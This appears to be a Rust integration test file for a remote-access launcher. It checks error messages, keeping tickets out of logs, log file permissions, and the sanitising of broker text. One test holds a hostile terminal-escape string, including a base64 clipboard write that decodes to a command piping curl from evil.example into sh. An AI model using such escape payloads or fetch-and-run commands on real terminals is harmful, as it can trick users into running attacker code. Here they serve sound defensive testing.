//! What the launcher writes where a user or an operator reads it, on the real binary with
//! stderr to a pipe and no display (a script, a service, journald): every failure says
//! its sentence on stderr, no ticket is ever printed or logged, and text from the network
//! cannot drive the terminal.

use std::net::{Ipv4Addr, SocketAddr};
use std::path::Path;

use portcullis_launcher::trust::TrustStore;
use portcullis_proto::api::{Answer, ErrorBody};
use portcullis_tunnel::config::TunnelTls;
use portcullis_tunnel::tls::TlsAcceptor;
use tempfile::TempDir;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use crate::process::{Exit, LauncherProcess};
use crate::support::{Stack, free_port};

/// A link's ticket: 48 characters.
fn ticket_of(link: &str) -> &str {
    link.rsplit('/').nth(1).unwrap()
}

/// Neither stderr nor the log (at `RUST_LOG=trace`) holds the ticket or a part of it
/// longer than the 8 characters the log may show.
fn assert_no_ticket(exit: &Exit, home: &Path, ticket: &str) {
    let log = std::fs::read_to_string(home.join("launcher.log")).unwrap();
    assert!(log.contains(&ticket[..8]), "the launch is logged: {log}");
    for (name, text) in [("stderr", exit.stderr.as_str()), ("launcher.log", &log)] {
        for part in [ticket, &ticket[8..], &ticket[..9]] {
            assert!(!text.contains(part), "{name} holds the ticket: {text}");
        }
    }
}

/// A malformed link with `env`: it says why on stderr and exits 2.
async fn a_malformed_link(home: &Path, env: &[(&str, &str)]) {
    let exit = LauncherProcess::spawn(["udssv2://broker/not-a-ticket/x"], home, env)
        .exit()
        .await;
    assert_eq!(exit.code, Some(2), "{exit:?}");
    assert!(
        exit.stderr.contains("That is not a Portcullis link"),
        "{exit:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_malformed_link_says_why_on_stderr_with_exit_2() {
    a_malformed_link(TempDir::new().unwrap().path(), &[]).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_display_that_does_not_answer_falls_back_to_stderr() {
    // A display number no X server here uses: the window toolkit would end the process
    // with "Can't open display" before the launcher said anything.
    let display = (7900..8000)
        .find(|number| !Path::new(&format!("/tmp/.X11-unix/X{number}")).exists())
        .map(|number| format!(":{number}"))
        .unwrap();
    let home = TempDir::new().unwrap();
    a_malformed_link(home.path(), &[("DISPLAY", &display)]).await;
    let log = std::fs::read_to_string(home.path().join("launcher.log")).unwrap();
    assert!(log.contains("the X display does not answer"), "{log}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_log_file_found_readable_by_others_becomes_private() {
    use std::os::unix::fs::PermissionsExt;
    let home = TempDir::new().unwrap();
    let log = home.path().join("launcher.log");
    std::fs::write(&log, "an older launch\n").unwrap();
    std::fs::set_permissions(&log, std::fs::Permissions::from_mode(0o644)).unwrap();
    a_malformed_link(home.path(), &[]).await;
    let mode = std::fs::metadata(&log).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600, "{mode:o}");
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(
        text.starts_with("an older launch\n") && text.contains("not a Portcullis link"),
        "appended: {text}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_ticket_is_shown_or_logged_when_the_pinned_broker_is_untrusted_or_unreachable() {
    let stack = Stack::start().await;
    let link = stack.link().await;
    let host = link
        .trim_start_matches("udssv2://")
        .split('/')
        .next()
        .unwrap();
    let closed = format!("127.0.0.1:{}", free_port());
    let home = TempDir::new().unwrap();
    let mut store = TrustStore::load(&home.path().join("trust.json")).unwrap();
    let key = stack.broker.state.signing_key.verifying_key().clone();
    store.pin(host, key.clone()).unwrap();
    store.pin(&closed, key).unwrap();
    store.save().unwrap();

    // The broker's certificate is not trusted (no --ca-file), then no broker listens.
    let unreachable = link.replace(host, &closed);
    for (link, sentence) in [
        (&link, "certificate is not trusted"),
        (&unreachable, "Cannot reach the broker"),
    ] {
        let exit = LauncherProcess::spawn([link.as_str()], home.path(), &[("RUST_LOG", "trace")])
            .exit()
            .await;
        assert_eq!(exit.code, Some(4), "{exit:?}");
        assert!(exit.stderr.contains(sentence), "{exit:?}");
        assert_no_ticket(&exit, home.path(), ticket_of(link));
    }
}

/// A broker that answers every request with `body` (HTTPS with a self-signed
/// certificate); its address and CA file.
async fn broker_answering(dir: &Path, body: Vec<u8>) -> (SocketAddr, std::path::PathBuf) {
    let (cert, key) =
        portcullis_broker::tls::ensure_self_signed(dir, &["127.0.0.1".into()]).unwrap();
    let acceptor = TlsAcceptor::new(&TunnelTls {
        cert: Some(cert.clone()),
        key: Some(key),
        require_post_quantum: false,
    })
    .unwrap()
    .unwrap();
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((tcp, _)) = listener.accept().await {
            let Ok(mut stream) = acceptor.accept(tcp).await else {
                continue;
            };
            let body = body.clone();
            tokio::spawn(async move {
                // One request head (a GET has no body), then the answer.
                let mut head = Vec::new();
                let mut buf = [0u8; 1024];
                while !head.windows(4).any(|w| w == b"\r\n\r\n") && head.len() < 65536 {
                    match stream.read(&mut buf).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => head.extend_from_slice(&buf[..n]),
                    }
                }
                let response = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\
                     content-length: {}\r\nconnection: close\r\n\r\n",
                    body.len()
                );
                let _ = stream.write_all(response.as_bytes()).await;
                let _ = stream.write_all(&body).await;
                let _ = stream.shutdown().await;
            });
        }
    });
    (addr, cert)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_never_trusted_brokers_text_cannot_drive_the_terminal() {
    let dir = TempDir::new().unwrap();
    let hostile = "Maintenance\u{1b}[2J\u{1b}[H\u{1b}]0;pwned title\u{7}\
                   \u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7} until \u{202e}noon\u{9b}31m";
    let body = Answer::<()>::Error(ErrorBody::fatal(hostile))
        .to_json()
        .unwrap();
    let (addr, ca) = broker_answering(dir.path(), body).await;
    let home = TempDir::new().unwrap();
    let link = format!("udssv2://{addr}/{}/scrambler", "A".repeat(48));
    let exit = LauncherProcess::spawn(
        ["--ca-file".as_ref(), ca.as_os_str(), link.as_ref()],
        home.path(),
        &[],
    )
    .exit()
    .await;
    assert_eq!(exit.code, Some(5), "{exit:?}");
    assert!(
        exit.stderr.contains("Maintenance until noon31m"),
        "the words stay: {exit:?}"
    );
    for control in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}'] {
        assert!(!exit.stderr.contains(control), "{control:?} in {exit:?}");
    }
    let log = std::fs::read_to_string(home.path().join("launcher.log")).unwrap();
    assert!(!log.contains('\u{1b}'), "the log holds an escape: {log:?}");
}
